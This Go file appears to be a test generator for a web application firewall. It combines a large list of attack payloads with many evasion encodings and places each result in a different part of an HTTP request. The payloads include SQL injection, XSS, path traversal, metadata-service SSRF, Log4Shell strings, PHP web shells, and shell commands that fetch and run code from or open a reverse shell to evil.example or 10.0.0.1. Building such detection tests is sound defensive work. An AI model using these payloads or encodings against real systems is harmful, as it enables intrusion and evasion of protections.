package waf

import (
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"math/rand/v2"
	"strconv"
	"strings"
	"unicode/utf16"

	"sallyport/internal/gate"
)

// payloads are attacks of every kind that the rules know, and some that are
// nearly one. None is encoded yet.
var payloads = []string{
	// SQL
	"1' UNION SELECT password FROM users--", "' OR '1'='1", "1 OR 1=1", "admin'--", "1; DROP TABLE users", "1' AND SLEEP(5)#", "1) UNION ALL SELECT NULL,NULL,version()--", "' || (SELECT 'a' FROM dual) || '",
	"1' AND extractvalue(1,concat(0x7e,version()))-- -", "';WAITFOR DELAY '0:0:5'--", "1 AND (SELECT COUNT(*) FROM information_schema.tables)>0", "0x53514C", "1'/**/UN/**/ION/**/SELECT/**/1", "' HAVING 1=1--",
	"1' ORDER BY 10--", "benchmark(10000000,md5(1))", "1e0union select 1", "'; exec master..xp_cmdshell 'dir'--", "'+convert(int,@@version)+'", "{\"$gt\":\"\"}", "'||'1'=='1", "[$ne]=1", "1 procedure analyse()", "@@datadir", "a' like 'a", "1 div 1 union select 2",
	// scripts
	"<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "javascript:alert(document.cookie)", "<svg/onload=alert(1)>", "\"><iframe src=//evil.example>", "<a href=\"java\tscript:alert(1)\">", "';alert(String.fromCharCode(88,83,83))//",
	"<body onload=alert(1)>", "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "{{constructor.constructor('alert(1)')()}}", "<style>@import'//evil.example'</style>", "data:text/html;base64,PHNjcmlwdD4=", "<base href=//evil.example>", "eval(atob('YWxlcnQoMSk='))", "<x style=behavior:url(x)>",
	"vbscript:msgbox(1)", "[][(![]+[])[+[]]]", "window['location']='//evil.example'", "<meta http-equiv=refresh content=0>", "&lt;script&gt;", "<!--#exec cmd=\"ls\"-->", "<object data=x>",
	// files
	"../../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/shadow", "/proc/self/environ", "....//....//etc/hosts", "file:///etc/passwd", "/.git/config", "/.env", "C:\\boot.ini", "/WEB-INF/web.xml", "wp-config.php.bak", "/id_rsa", "/%c0%ae%c0%ae/", "/backup.sql", "..;/manager/html", "php://filter/convert.base64-encode/resource=index.php",
	"http://203.0.113.9/shell.txt?", "https://evil.example/x.php", "ftp://evil.example/a", "http://169.254.169.254/latest/meta-data/", "//evil.example/%2e%2e", "jar:http://evil.example!/", "gopher://127.0.0.1:6379/_", "http://localhost/admin", "http://0x7f.1/",
	// commands
	";cat /etc/passwd", "|id", "`whoami`", "$(curl evil.example|sh)", "& dir c:\\ &", "; nc -e /bin/sh 10.0.0.1 4444", "() { :;}; echo vulnerable", "cmd.exe /c dir", "powershell -enc aQBlAHgA", "/bin/bash -i", "c'a't /e\"t\"c/pass?d", "${IFS}cat${IFS}/etc/passwd", "wget http://evil.example/x -O- | sh", "ping -c 1 127.0.0.1", "Invoke-Expression", "<(ls)", "sudo su", "time id", "python -c 'import os'", "ls -la", "x=$((1+1))", "{ls,-l}", "a;sleep 5;b", "&&ipconfig", "bash<<<id", "!-1", "/???/c?t",
	// languages
	"<?php system($_GET['c']); ?>", "<?= `id` ?>", "phpinfo()", "base64_decode('aWQ=')", "O:8:\"stdClass\":0:{}", "$_SERVER['x']", "allow_url_include=1", "assert($_POST[x])", "fopen('x')", "preg_replace(\"/x/e\")", "auto_prepend_file=php://input",
	"${jndi:ldap://evil.example/a}", "${${lower:j}ndi:rmi://x}", "java.lang.Runtime.getRuntime().exec('id')", "class.module.classLoader.resources", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==", "%{(#a=@org.apache.struts2)}", "#{7*7}", "{{7*7}}", "<%= 7*7 %>", "T(java.lang.System).getenv()", "ysoserial", "com.sun.rowset.JdbcRowSetImpl",
	"require('child_process').exec('id')", "__proto__[x]=1", "constructor.prototype", "process.env", "_$$ND_FUNC$$_function(){}", "while(1){}", "this.constructor.constructor", "__import__('os').system('id')", "self.__class__.__mro__", "String.from_char_code", "@{x}", "Process.spawn", "Runtime.exec",
	// protocols
	"x\r\nSet-Cookie: a=b", "x\nLocation: http://evil.example", "GET / HTTP/1.1", "a\x00b", "admin)(&(password=*))", "*)(uid=*))(|(uid=*", "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>", "<xi:include href=\"http://10.0.0.1/\"/>", "x' or name()='a", "JSESSIONID=1;PHPSESSID=2", "document.cookie=\"PHPSESSID=x\"", "<form><input type=hidden>", "smuggled: 1\r\n\r\nPOST /", "bytes=0-1,2-3,4-5,6-7,8-9,10-11",
	// scanners and agents
	"sqlmap/1.5", "Nikto/2.1", "() { ignored; }", "nessus", "masscan", "python-requests/2.0", "Wget/1.2", "<script>alert(\"nuclei\")</script>", "tplmap/0.5", "Hello, World",
	// what people write, near an attack
	"it's 5 o'clock", "select a colour from the list", "O'Brien & Sons; and more", "a < b && c > d", "drop me a line", "the union of two sets", "C:\\Users\\ann\\report.doc", "1=1", "50% off!", "\"quoted\" -- indeed", "see /etc for details", "script kiddies", "x = y ? 1 : 0;", "#hashtag @name", "a/*b*/c", "cat and dog", "or 1", "order by mail", "(a) or (b)", "insert into the slot", "SELECT", "' ' '", "''''", "~!@#$%^&*()_+", "needle", "secret-alpha-needle", "secret-zulu-x",
}

// encodings write a payload in another way. Those that only some readers undo
// are among them: a matcher has to see them as the rules do.
var encodings = []struct {
	name  string
	write func(r *rand.Rand, s string) string
}{
	{"as it is", func(_ *rand.Rand, s string) string { return s }},
	{"percent", func(_ *rand.Rand, s string) string { return eachByte(s, "%%%02X", plainByte) }},
	{"percent, all", func(_ *rand.Rand, s string) string { return eachByte(s, "%%%02x", nil) }},
	{"double percent", func(_ *rand.Rand, s string) string { return eachByte(s, "%%25%02X", plainByte) }},
	{"plus", func(_ *rand.Rand, s string) string { return strings.ReplaceAll(s, " ", "+") }},
	{"%u", func(_ *rand.Rand, s string) string { return eachUnit(s, "%%u%04X") }},
	{"fullwidth", func(_ *rand.Rand, s string) string {
		return strings.Map(func(c rune) rune {
			if c > ' ' && c < 0x7f {
				return c - '!' + '！'
			}
			return c
		}, s)
	}},
	{"fullwidth, some", func(r *rand.Rand, s string) string {
		return strings.Map(func(c rune) rune {
			if c > ' ' && c < 0x7f && r.IntN(4) == 0 {
				return c - '!' + '！'
			}
			return c
		}, s)
	}},
	{"entities", func(_ *rand.Rand, s string) string {
		return strings.NewReplacer("<", "&lt;", ">", "&gt;", "'", "&#39;", "\"", "&quot;", "&", "&amp;", ":", "&colon;", "(", "&lpar;").Replace(s)
	}},
	{"numbered entities", func(_ *rand.Rand, s string) string { return eachByte(s, "&#%d;", nil) }},
	{"numbered entities, open", func(_ *rand.Rand, s string) string { return eachByte(s, "&#x%x", plainByte) }},
	{`\x`, func(_ *rand.Rand, s string) string { return eachByte(s, `\x%02x`, plainByte) }},
	{`\u`, func(_ *rand.Rand, s string) string { return eachUnit(s, `\u%04x`) }},
	{"octal", func(_ *rand.Rand, s string) string { return eachByte(s, `\%03o`, plainByte) }},
	{"CSS", func(_ *rand.Rand, s string) string { return eachByte(s, `\%06x`, plainByte) }},
	{"long s and Kelvin sign", func(_ *rand.Rand, s string) string {
		return strings.NewReplacer("s", "ſ", "S", "ſ", "k", "K", "K", "K").Replace(s)
	}},
	{"NUL inside", func(r *rand.Rand, s string) string { return woven(r, s, "\x00") }},
	{"SQL comments", func(_ *rand.Rand, s string) string { return strings.ReplaceAll(s, " ", "/**/") }},
	{"comments in words", func(r *rand.Rand, s string) string { return woven(r, s, "/*x*/") }},
	{"versioned comments", func(_ *rand.Rand, s string) string { return "/*!50000" + s + "*/" }},
	{"line comments", func(_ *rand.Rand, s string) string { return strings.ReplaceAll(s, " ", "--x\n") }},
	{"tabs", func(_ *rand.Rand, s string) string { return strings.ReplaceAll(s, " ", "\t\v") }},
	{"other blanks", func(_ *rand.Rand, s string) string { return strings.ReplaceAll(s, " ", "\u00a0") }},
	{"upper case", func(_ *rand.Rand, s string) string { return strings.ToUpper(s) }},
	{"mixed case", mixedCase},
	{"base64", func(_ *rand.Rand, s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }},
	{"base64 in a URL", func(_ *rand.Rand, s string) string {
		return "data:;base64," + base64.URLEncoding.EncodeToString([]byte(s))
	}},
	{"hex", func(_ *rand.Rand, s string) string { return hex.EncodeToString([]byte(s)) }},
	{"quotes and carets", func(r *rand.Rand, s string) string { return woven(r, s, []string{`""`, "''", "^", `\`}[r.IntN(4)]) }},
	{"overlong", func(_ *rand.Rand, s string) string {
		return strings.NewReplacer("/", "\xc0\xaf", ".", "\xc0\xae", "<", "\xc0\xbc", "'", "\xc0\xa7").Replace(s)
	}},
	{"bytes that are no text", func(r *rand.Rand, s string) string { return woven(r, s, string([]byte{byte(0x80 + r.IntN(0x80))})) }},
	{"another alphabet", func(_ *rand.Rand, s string) string {
		return strings.NewReplacer("a", "а", "e", "е", "o", "о", "i", "і").Replace(s)
	}},
	{"combining", func(r *rand.Rand, s string) string { return woven(r, s, "\u0301") }},
	{"repeated", func(r *rand.Rand, s string) string { return strings.Repeat(s+" ", 2+r.IntN(40)) }},
	{"in a long text", func(r *rand.Rand, s string) string {
		words := strings.Repeat("lorem ipsum dolor sit amet ", 1+r.IntN(60))
		at := r.IntN(len(words))
		return words[:at] + s + words[at:]
	}},
}

// plainByte reports whether a byte stands for itself in an address.
func plainByte(c byte) bool {
	return c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || c >= '0' && c <= '9' || c == '-' || c == '_' || c == '.'
}

// eachByte formats every byte that is not kept.
func eachByte(s, format string, keep func(byte) bool) string {
	var b strings.Builder
	for i := range len(s) {
		if keep != nil && keep(s[i]) {
			b.WriteByte(s[i])
		} else {
			fmt.Fprintf(&b, format, s[i])
		}
	}
	return b.String()
}

// eachUnit formats every UTF-16 unit that is no letter or digit.
func eachUnit(s, format string) string {
	var b strings.Builder
	for _, c := range utf16.Encode([]rune(s)) {
		if c < 0x80 && plainByte(byte(c)) {
			b.WriteByte(byte(c))
		} else {
			fmt.Fprintf(&b, format, c)
		}
	}
	return b.String()
}

// woven puts what into some places of a text.
func woven(r *rand.Rand, s, what string) string {
	for range 1 + r.IntN(3) {
		at := r.IntN(len(s) + 1)
		s = s[:at] + what + s[at:]
	}
	return s
}

// mixedCase changes the case of letters at random.
func mixedCase(r *rand.Rand, s string) string {
	b := []byte(s)
	for i, c := range b {
		if c |= 0x20; c >= 'a' && c <= 'z' && r.IntN(2) == 0 {
			b[i] ^= 0x20
		}
	}
	return string(b)
}

// inTarget writes what cannot stand in a target as it is, and nothing else.
func inTarget(s string) string {
	return eachByte(s, "%%%02X", func(c byte) bool { return c > ' ' && c < 0x7f && c != '#' })
}

// inParameter does the same for one name or value.
func inParameter(s string) string {
	return eachByte(s, "%%%02X", func(c byte) bool { return c > ' ' && c < 0x7f && c != '#' && c != '&' })
}

// inField takes out what cannot stand in a field line.
func inField(s string) string {
	return strings.Trim(strings.Map(func(c rune) rune {
		if c == '\r' || c == '\n' || c == 0 {
			return ' '
		}
		return c
	}, s), " \t")
}

// inFieldName keeps what may stand in the name of a field.
func inFieldName(s string) string {
	var b strings.Builder
	for i := range min(len(s), 60) {
		if plainByte(s[i]) && s[i] != '_' || strings.IndexByte("!#$%&'*+^`|~", s[i]) >= 0 {
			b.WriteByte(s[i])
		}
	}
	return "X" + b.String()
}

// inXML escapes what has a meaning in XML.
func inXML(s string) string {
	return strings.NewReplacer("&", "&amp;", "<", "&lt;", ">", "&gt;", `"`, "&quot;", "\x00", "").Replace(s)
}

// inQuotes keeps a parameter of a part's head in its quotes.
func inQuotes(s string) string {
	return strings.NewReplacer(`"`, "%22", "\r", "%0D", "\n", "%0A").Replace(s)
}

// unquoted is a JSON string whose escapes may be any, as the payload has them.
func unquoted(s string) string {
	return strings.NewReplacer(`"`, `\"`, "\n", `\n`, "\r", `\r`, "\t", `\t`, "\x00", `\u0000`, "\v", `\u000b`).Replace(s)
}

// places put a text into a request that is harmless but for it.
var places = []struct {
	name string
	put  func(s string) call
}{
	{"query value", func(s string) call { return get("/shop/list?page=2&q=" + inParameter(s) + "&lang=en") }},
	{"query name", func(s string) call { return get("/?" + inParameter(s) + "=1") }},
	{"query, bare", func(s string) call { return get("/index?" + inTarget(s)) }},
	{"list in the query", func(s string) call { return get("/?a[]=1&a[b][]=" + inParameter(s)) }},
	{"path segment", func(s string) call { return get("/shop/" + inTarget(strings.ReplaceAll(s, "?", "%3F")) + "/view") }},
	{"path", func(s string) call { return get("/" + inTarget(s)) }},
	{"path behind a script", func(s string) call { return get("/index.php/" + inTarget(s)) }},
	{"form value", func(s string) call { return post(formType, "user=ann&comment="+inParameter(s)+"&ok=1") }},
	{"form name", func(s string) call { return post(formType, "a=1&"+inParameter(s)+"=b") }},
	{"form, raw", func(s string) call { return post(formType, "a=1&b="+s) }},
	{"JSON value", func(s string) call { return post("application/json", `{"id":7,"text":`+quote(s)+`,"ok":true}`) }},
	{"JSON value, unescaped", func(s string) call { return post("application/json", `{"id":7,"text":"`+unquoted(s)+`"}`) }},
	{"JSON key", func(s string) call { return post("application/json", `{"a":{`+quote(s)+`:1}}`) }},
	{"JSON array", func(s string) call {
		return post("application/vnd.api+json", `{"list":[1,[`+quote(s)+`],{"x":{"y":[null,`+quote(s)+`]}}]}`)
	}},
	{"JSON lines", func(s string) call {
		return post("application/x-ndjson", `{"index":{}}`+"\n"+`{"a":`+quote(s)+"}\n")
	}},
	{"GraphQL argument", func(s string) call {
		return post("application/json", `{"query":`+quote(`query Q { user(name: `+quote(s)+`) { id } }`)+`}`)
	}},
	{"GraphQL variable", func(s string) call {
		return post("application/json", `{"query":"query Q($n: String) { user(name: $n) { id } }","variables":{"n":`+quote(s)+`}}`)
	}},
	{"GraphQL document", func(s string) call {
		return post("application/graphql", `{ search(text: `+quote(s)+`) { title } }`)
	}},
	{"GraphQL in the query", func(s string) call {
		return get("/graphql?query=" + eachByte(`{a(b:`+quote(s)+`){c}}`, "%%%02X", plainByte))
	}},
	{"XML text", func(s string) call {
		return post("text/xml", `<?xml version="1.0"?><order><note>`+inXML(s)+`</note></order>`)
	}},
	{"XML attribute", func(s string) call { return post("application/xml", `<order note="`+inXML(s)+`"/>`) }},
	{"XML CDATA", func(s string) call {
		return post("application/soap+xml", `<a><b><![CDATA[`+strings.ReplaceAll(s, "]]>", "]] >")+`]]></b></a>`)
	}},
	{"XML comment", func(s string) call {
		return post("text/xml", `<a><!-- `+strings.ReplaceAll(s, "--", "- -")+` --></a>`)
	}},
	{"XML, raw", func(s string) call { return post("text/xml", `<a>`+s+`</a>`) }},
	{"cookie value", func(s string) call {
		return get("/", "Cookie", "sid=5f2b9c; pref="+inField(strings.ReplaceAll(s, ";", "%3B"))+"; theme=dark")
	}},
	{"cookie, raw", func(s string) call { return get("/", "Cookie", inField(s)) }},
	{"cookie name", func(s string) call { return get("/", "Cookie", inField(strings.ReplaceAll(s, ";", ""))+"=1; a=b") }},
	{"User-Agent", func(s string) call {
		c := get("/")
		c.fields[1].Value = inField(s)
		return c
	}},
	{"Referer", func(s string) call { return get("/", "Referer", "https://shop.example.org/?q="+inField(s)) }},
	{"Referer, all", func(s string) call { return get("/", "Referer", inField(s)) }},
	{"Accept", func(s string) call {
		c := get("/")
		c.fields[2].Value = inField(s)
		return c
	}},
	{"Host", func(s string) call {
		c := get("/")
		c.fields[0].Value = inField(s)
		return c
	}},
	{"a field of its own", func(s string) call { return get("/", "X-Custom", inField(s)) }},
	{"a usual field", func(s string) call {
		return get("/", []string{"Accept-Language", "Authorization", "Origin", "X-Forwarded-For", "If-None-Match", "Range", "Accept-Encoding", "Content-Language", "X-Filename", "Via"}[len(s)%10], inField(s))
	}},
	{"field name", func(s string) call { return get("/", inFieldName(s), "1") }},
	{"Content-Type", func(s string) call { return post(inField(s), "a=b") }},
	{"charset", func(s string) call { return post(formType+"; charset="+inField(s), "a=b") }},
	{"method", func(s string) call {
		c := get("/")
		c.method = inFieldName(s)
		return c
	}},
	{"multipart value", func(s string) call { return multi(field("a", "b") + field("text", s) + last) }},
	{"multipart name", func(s string) call { return multi(field(inQuotes(s), "1") + last) }},
	{"file name", func(s string) call { return multi(file("f", inQuotes(s), "hello") + last) }},
	{"file name, and its extension", func(s string) call { return multi(file("f", inQuotes(s)+".jpg", "hello") + last) }},
	{"name of a file field", func(s string) call { return multi(file(inQuotes(s), "a.txt", "hello") + last) }},
	{"file", func(s string) call { return multi(field("a", "1") + file("f", "a.txt", s) + last) }},
	{"a large file before a field", func(s string) call {
		return multi(file("f", "a.txt", strings.Repeat("x", 70<<10)) + field("text", s) + last)
	}},
	{"part header", func(s string) call {
		return multi("--b0undary\r\nContent-Disposition: form-data; name=\"a\"\r\nX-Part: " + inField(s) + "\r\n\r\n1\r\n" + last)
	}},
	{"type of a part", func(s string) call {
		return multi("--b0undary\r\nContent-Disposition: form-data; name=\"a\"\r\nContent-Type: " + inField(s) + "\r\n\r\n1\r\n" + field("b", "2") + last)
	}},
	{"two types of parts", func(s string) call {
		part := "--b0undary\r\nContent-Disposition: form-data; name=\"a\"\r\nContent-Type: text/plain; charset=" + inField(s) + "\r\n\r\n1\r\n"
		return multi(part + strings.Replace(part, `"a"`, `"b"`, 1) + last)
	}},
	{"JSON in a part", func(s string) call {
		return multi("--b0undary\r\nContent-Disposition: form-data; name=\"a\"\r\nContent-Type: application/json\r\n\r\n{\"x\":" + quote(s) + "}\r\n" + last)
	}},
	{"boundary", func(s string) call { return post("multipart/form-data; boundary="+inField(s), field("a", "b")+last) }},
	{"text", func(s string) call { return post("text/plain", s) }},
	{"JSON called a form", func(s string) call { return post(formType, `{"a":`+quote(s)+`}`) }},
	{"a body of no type", func(s string) call { return typeless("a=1&b=" + s) }},
	{"an opaque body", func(s string) call { return post("application/octet-stream", s) }},
	{"everywhere", func(s string) call {
		return call{method: "POST", target: "/" + inTarget(s) + "?" + inParameter(s) + "=" + inParameter(s), body: inParameter(s) + "=" + inParameter(s),
			fields: browser("Cookie", inField(s), "Referer", inField(s), "X-Custom", inField(s), "Content-Type", formType)}
	}},
	{"many parameters", func(s string) call {
		var b strings.Builder
		for i := range 25 {
			fmt.Fprintf(&b, "p%d=%d&", i, i*i)
		}
		return get("/?" + b.String() + "last=" + inParameter(s))
	}},
}

// typeless is a body that does not say what it is.
func typeless(body string) call {
	return call{method: "POST", target: "/post", fields: browser("Content-Length", strconv.Itoa(len(body))), body: body}
}

// placed puts one payload, encoded once or twice, at one place.
func placed(r *rand.Rand) *trial {
	p, e, at := payloads[r.IntN(len(payloads))], encodings[r.IntN(len(encodings))], places[r.IntN(len(places))]
	name, s := at.name+", "+e.name, e.write(r, p)
	if r.IntN(4) == 0 {
		again := encodings[r.IntN(len(encodings))]
		name, s = name+", "+again.name, again.write(r, s)
	}
	if r.IntN(8) == 0 {
		s = payloads[r.IntN(len(payloads))] + s
	}
	c := at.put(s)
	return &trial{name: name, call: c}
}

// eachPlaced goes through every place and encoding before one of them comes a
// second time, with a payload by chance.
func eachPlaced(r *rand.Rand, i int) *trial {
	at, e := places[i%len(places)], encodings[i/len(places)%len(encodings)]
	return &trial{name: at.name + ", " + e.name, call: at.put(e.write(r, payloads[r.IntN(len(payloads))]))}
}

// fieldsOf makes field lines of names and values.
func fieldsOf(pairs ...string) []gate.Field {
	var f []gate.Field
	for i := 0; i+1 < len(pairs); i += 2 {
		f = append(f, gate.Field{Name: pairs[i], Value: pairs[i+1]})
	}
	return f
}
